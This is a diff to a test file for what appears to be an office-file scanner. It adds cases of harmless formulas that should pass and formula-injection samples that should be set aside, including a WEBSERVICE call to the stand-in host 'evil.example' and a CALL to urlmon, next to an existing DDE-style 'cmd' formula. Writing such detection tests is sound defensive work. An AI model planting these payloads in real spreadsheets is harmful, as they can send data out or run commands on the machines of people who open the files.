@@ -80,6 +80,11 @@ describe('good files are accepted', async () => {
     ['docx', 'a hyperlink.docx', linked('docx', 'hyperlink', 'https://example.org/')],
     ['xlsx', 'another workbook.xlsx', linked('xlsx', 'externalLinkPath', 'file:///D:/b.xlsx')],
     ['xlsx', 'a bar within text.xlsx', sheet("A1&amp;&quot;|&quot;&amp;'甲|乙'!B1")],
+    [
+      'xlsx',
+      'functions by similar names.xlsx',
+      sheet('RECALL(A1)&amp;&quot;CALL(&quot;&amp;HYPERLINK(&quot;https://a&quot;)'),
+    ],
     ['docx', 'an embedded table.docx', embed('docx', 'word/embeddings/t.xlsx', office('xlsx'))],
     ['docx', 'ordinary fields.docx', field(' PAGE ', 'HYPERLINK "https://example.org/bidder"')],
     [
@@ -409,6 +414,8 @@ describe('office files that would act on their own are set aside', () => {
       'prefixed formula.xlsx',
       embed('xlsx', 'xl/worksheets/a.xml', "<x:worksheet><x:f t='n'>+cmd|'/c x'!A1</x:f></x:worksheet>"),
     ],
+    ['formula-injection', 'outgoing formula.xlsx', sheet('1+_xlfn.WEBSERVICE(&quot;http://evil.example&quot;)')],
+    ['formula-injection', 'calling formula.xlsx', sheet('CALL (&quot;urlmon&quot;,&quot;x&quot;)')],
     [
       'dde',
       'formula in a part of another name.xlsx',
